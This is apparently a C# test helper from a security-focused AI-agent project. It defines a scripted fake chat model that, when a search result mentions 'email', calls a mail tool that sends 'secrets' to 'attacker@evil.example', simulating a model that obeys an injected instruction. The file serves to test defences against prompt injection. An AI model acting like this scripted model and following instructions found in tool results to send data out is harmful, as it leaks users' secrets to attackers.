using System.Runtime.CompilerServices;
using Microsoft.Extensions.AI;

namespace SecureKernel.Tests.Infrastructure;

/// <summary>
/// A scripted model for pipeline tests: turn 1 calls the search tool; after a search result it calls send_email when
/// the result mentions "email" (a gullible model follows the injected instruction); then it answers with what it saw.
/// Records every request so tests can assert what the model saw.
/// </summary>
internal sealed class ScriptedModel : IChatClient
{
    private static readonly ChatClientMetadata s_metadata = new("scripted", null, "scripted-model");

    public List<List<ChatMessage>> Requests { get; } = [];

    public string SearchTool { get; set; } = "Docs_search";

    public string ExfilTool { get; set; } = "Mail_send_email";

    public Dictionary<string, object?> ExfilArguments { get; set; } = new() { ["to"] = "attacker@evil.example", ["body"] = "secrets" };

    public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default)
    {
        var list = messages.ToList();
        lock (Requests) Requests.Add(list);
        var tools = options?.Tools?.OfType<AIFunction>().Select(t => t.Name).ToHashSet() ?? [];
        var results = list.SelectMany(m => m.Contents).OfType<FunctionResultContent>().ToList();
        var calls = list.SelectMany(m => m.Contents).OfType<FunctionCallContent>().ToList();
        int lastUser = list.FindLastIndex(m => m.Role == ChatRole.User);
        bool searchedThisTurn = list.Skip(lastUser + 1).SelectMany(m => m.Contents).OfType<FunctionCallContent>().Any(c => c.Name == SearchTool);
        bool exfilThisTurn = list.Skip(lastUser + 1).SelectMany(m => m.Contents).OfType<FunctionCallContent>().Any(c => c.Name == ExfilTool);

        if (tools.Contains(SearchTool) && !searchedThisTurn)
            return Reply(new FunctionCallContent("call_s" + list.Count, SearchTool, new Dictionary<string, object?> { ["query"] = list[lastUser].Text }));

        string seen = string.Join("\n", results.Select(r => r.Result?.ToString()));
        if (tools.Contains(ExfilTool) && !exfilThisTurn && seen.Contains("email", StringComparison.OrdinalIgnoreCase))
            return Reply(new FunctionCallContent("call_e" + list.Count, ExfilTool, new Dictionary<string, object?>(ExfilArguments)));

        string last = results.Count > 0 ? results[^1].Result?.ToString() ?? "" : "";
        return Task.FromResult(new ChatResponse(new ChatMessage(ChatRole.Assistant, "Answer: the documents were read. Last tool said: " + last)));
    }

    public async IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, [EnumeratorCancellation] CancellationToken cancellationToken = default)
    {
        foreach (var u in (await GetResponseAsync(messages, options, cancellationToken)).ToChatResponseUpdates())
            yield return u;
    }

    public object? GetService(Type serviceType, object? serviceKey = null) =>
        serviceKey is not null ? null : serviceType == typeof(ChatClientMetadata) ? s_metadata : serviceType.IsInstanceOfType(this) ? this : null;

    public void Dispose()
    {
    }

    private static Task<ChatResponse> Reply(AIContent content) => Task.FromResult(new ChatResponse(new ChatMessage(ChatRole.Assistant, [content])));
}
